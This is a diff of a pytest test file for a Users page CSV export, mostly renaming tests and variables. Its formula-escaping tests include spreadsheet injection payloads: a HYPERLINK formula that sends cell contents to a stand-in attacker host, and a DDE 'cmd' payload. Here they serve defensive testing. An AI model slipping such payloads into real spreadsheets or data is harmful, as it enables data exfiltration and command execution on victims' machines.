@@ -1,4 +1,4 @@
-"""The Users page as a file (U-17): what is in it, that spreadsheets compute nothing of it."""
+"""The CSV export of the Users page (U-17): its contents, and that spreadsheets run no formulas in it."""
 
 import csv
 import io
@@ -31,16 +31,16 @@ def names(response) -> list[str]:
     return [row[0] for row in rows(response)[1:]]
 
 
-def test_the_view_as_it_is_shown(cast):
+def test_the_file_has_the_columns_and_rows_of_the_page(cast):
     client = cast.client("olga")
-    answer = client.get(EXPORT, {"view": ""})
-    assert answer["Content-Type"] == "text/csv; charset=utf-8"
-    assert answer["Content-Disposition"] == 'attachment; filename="users.csv"'
-    table = rows(answer)
-    heads = ["Name", "Email", "Role", "Groups", "Projects", "Status", "2FA", "Last active", "Invite expires"]
-    assert table[0] == heads
-    bo = dict(zip(heads, table[1], strict=True))
-    assert [bo[head] for head in heads[:7]] == [
+    response = client.get(EXPORT, {"view": ""})
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="users.csv"'
+    table = rows(response)
+    headings = ["Name", "Email", "Role", "Groups", "Projects", "Status", "2FA", "Last active", "Invite expires"]
+    assert table[0] == headings
+    bo = dict(zip(headings, table[1], strict=True))
+    assert [bo[heading] for heading in headings[:7]] == [
         "Bo Lindqvist",
         "bo@acme.example",
         "Builder",
@@ -53,7 +53,7 @@ def test_the_view_as_it_is_shown(cast):
     assert [row[0] for row in table[1:]] == ["Bo Lindqvist", "Max Keller", "Olga Ivanova", "Opal Nakamura"]
 
 
-def test_search_filter_sort_and_columns_are_those_of_the_view(cast):
+def test_the_file_follows_search_filters_sort_and_columns(cast):
     expire(cast.invite(people=[("Eve", "Late", "eve@acme.example")])[0])
     pending(cast.acme, 2)
     client = cast.client("olga")
@@ -67,7 +67,7 @@ def test_search_filter_sort_and_columns_are_those_of_the_view(cast):
     assert [row[0] for row in table[1:]] == ["Eve Late", "Guest 000 Test", "Guest 001 Test"]
 
 
-def test_a_search_is_in_the_order_of_the_page(cast, monkeypatch):
+def test_search_results_have_the_order_of_the_page(cast, monkeypatch):
     monkeypatch.setattr("console.users.selection.CHUNK", 2)
     named = [("Aaa", "Maria"), ("Zoe", "Mar"), ("Mara", "Z"), ("Marc", "A"), ("Nobody", "Else"), ("Mar", "Io")]
     for member, (first, last) in zip(joined(cast.acme, len(named)), named, strict=True):
@@ -80,48 +80,48 @@ def test_a_search_is_in_the_order_of_the_page(cast, monkeypatch):
         assert {"Mara Z", "Marc A", "Mar Io"} == set(page[:3])
 
 
-def test_who_is_deleted_meanwhile_breaks_nothing_off(cast, monkeypatch):
-    gone, real = joined(cast.acme, 2)[0], selection.load_details
+def test_a_member_deleted_during_the_export_does_not_stop_it(cast, monkeypatch):
+    deleted, load_details = joined(cast.acme, 2)[0], selection.load_details
 
-    def later(*args, **options):
-        Membership.objects.filter(pk=gone.pk).delete()
-        return real(*args, **options)
+    def delete_first(*args, **options):
+        Membership.objects.filter(pk=deleted.pk).delete()
+        return load_details(*args, **options)
 
-    monkeypatch.setattr(selection, "load_details", later)
+    monkeypatch.setattr(selection, "load_details", delete_first)
     view = Selection(UserListParams(columns=("invited_by", "groups", "projects")), everyone=True)
     file = "".join(export.export_lines(cast.acme, view, timezone.now()))
     assert file.count("\r\n") == 7 and "Person 001" in file
 
 
-def test_the_ticked_alone_or_all_that_match(cast):
+def test_only_selected_members_or_all_matches(cast):
     client = cast.client("olga")
-    ticked = {"view": "", "member": [str(cast.bo.pk), str(cast.tess.pk)]}
-    assert names(client.get(EXPORT, ticked)) == ["Bo Lindqvist"]
-    assert len(names(client.get(EXPORT, {**ticked, "all": "1"}))) == 4
+    selected = {"view": "", "member": [str(cast.bo.pk), str(cast.tess.pk)]}
+    assert names(client.get(EXPORT, selected)) == ["Bo Lindqvist"]
+    assert len(names(client.get(EXPORT, {**selected, "all": "1"}))) == 4
 
 
 @pytest.mark.parametrize("sort", ["name", "-name", "role", "-last_active", "joined"])
-def test_in_slices_everybody_once_and_in_order(cast, monkeypatch, sort):
+def test_chunks_contain_every_member_once(cast, monkeypatch, sort):
     monkeypatch.setattr("console.users.selection.CHUNK", 7)
     joined(cast.acme, 30)
     pending(cast.acme, 10)
     for view in (f"?sort={sort}", f"?sort={sort}&status=everyone", f"?sort={sort}&q=test&status=everyone"):
-        found = [row[1] for row in rows(cast.client("olga").get(EXPORT, {"view": view}))[1:]]
+        emails = [row[1] for row in rows(cast.client("olga").get(EXPORT, {"view": view}))[1:]]
         expected = Membership.objects.filter(organization=cast.acme)
         expected = expected.filter(last_name="Test") if "q=" in view else expected
         expected = expected if "everyone" in view else expected.exclude(status="invited")
-        assert len(found) == len(set(found)) and set(found) == set(expected.values_list("email", flat=True))
+        assert len(emails) == len(set(emails)) and set(emails) == set(expected.values_list("email", flat=True))
 
 
-def test_two_queries_a_chunk_and_one_for_roles(cast, monkeypatch, django_assert_num_queries):
+def test_an_export_takes_two_queries_per_chunk_and_one_for_roles(cast, monkeypatch, django_assert_num_queries):
     in_groups(joined(cast.acme, 40), list(cast.groups.values()))
-    everybody = Selection(UserListParams.default(Tab.ALL), everyone=True)
+    everyone = Selection(UserListParams.default(Tab.ALL), everyone=True)
     with django_assert_num_queries(3):
-        assert len(list(export_lines(cast.acme, everybody, timezone.now()))) == 2
+        assert len(list(export_lines(cast.acme, everyone, timezone.now()))) == 2
 
 
 @pytest.mark.parametrize(
-    ("typed", "kept"),
+    ("text", "escaped"),
     [
         ("=1+1", "'=1+1"),
         ("+1", "'+1"),
@@ -141,22 +141,22 @@ def test_two_queries_a_chunk_and_one_for_roles(cast, monkeypatch, django_assert_
         ("a\0b", "ab"),
     ],
 )
-def test_no_spreadsheet_computes_a_cell(typed, kept):
-    assert escape_formulas(typed) == kept
+def test_formulas_are_escaped(text, escaped):
+    assert escape_formulas(text) == escaped
 
 
-def test_what_people_call_themselves_computes_nothing(cast):
-    evil = '=HYPERLINK("http://evil.example?"&A1,"x")'
-    Membership.objects.filter(pk=cast.bo.pk).update(first_name=evil, last_name='"\n@x')
+def test_formulas_in_names_are_escaped(cast):
+    formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
+    Membership.objects.filter(pk=cast.bo.pk).update(first_name=formula, last_name='"\n@x')
     Group.objects.filter(pk=cast.groups["marketing"].pk).update(name="-cmd|' /C calc'!A0")
-    answer = cast.client("olga").get(EXPORT, {"view": "?q=bo"})
-    body = b"".join(answer.streaming_content).decode()
+    response = cast.client("olga").get(EXPORT, {"view": "?q=bo"})
+    body = b"".join(response.streaming_content).decode()
     assert body.startswith("\ufeff") and body.count('"\r\n') == 2
     (row,) = list(csv.reader(io.StringIO(body[1:], newline=""), strict=True))[1:]
     assert row[0].startswith("'=HYPERLINK(") and "\n'@x" in row[0] and row[3] == "'-cmd|' /C calc'!A0"
 
 
-def test_the_audit_log_tells_who_took_it(cast):
+def test_an_export_is_recorded_in_the_audit_log(cast):
     client = cast.client("max")
     client.head(EXPORT)
     assert not Entry.objects.filter(action="members.exported").exists()
@@ -165,15 +165,15 @@ def test_the_audit_log_tells_who_took_it(cast):
     assert entry.actor_id == cast.max.pk and entry.data == {"view": "?q=bo", "selected": 0}
 
 
-def test_a_view_that_no_database_takes_is_the_whole_list(cast):
+def test_a_search_with_nul_characters_is_ignored(cast):
     client = cast.client("max")
-    answer = client.get(EXPORT, {"view": "?q=%00\0"})
-    assert answer.status_code == 200 and "Bo Lindqvist" in names(answer)
+    response = client.get(EXPORT, {"view": "?q=%00\0"})
+    assert response.status_code == 200 and "Bo Lindqvist" in names(response)
     assert Entry.objects.get(action="members.exported").data == {"view": "", "selected": 0}
 
 
-def test_who_sees_people_may_and_others_not(cast):
+def test_an_export_requires_see_people(cast):
     cast.ria = add_member(cast.globex, add_user("ria@globex.example", "Ria", "Reader"), "read_only")
     assert names(cast.client("ria").get("/o/globex/users/export/")) == ["Ria Reader", "Tess Moreau"]
-    answer = cast.client("bo").get(EXPORT)
-    assert answer.status_code == 403 and "“See people”" in words(answer)
+    response = cast.client("bo").get(EXPORT)
+    assert response.status_code == 403 and "“See people”" in words(response)
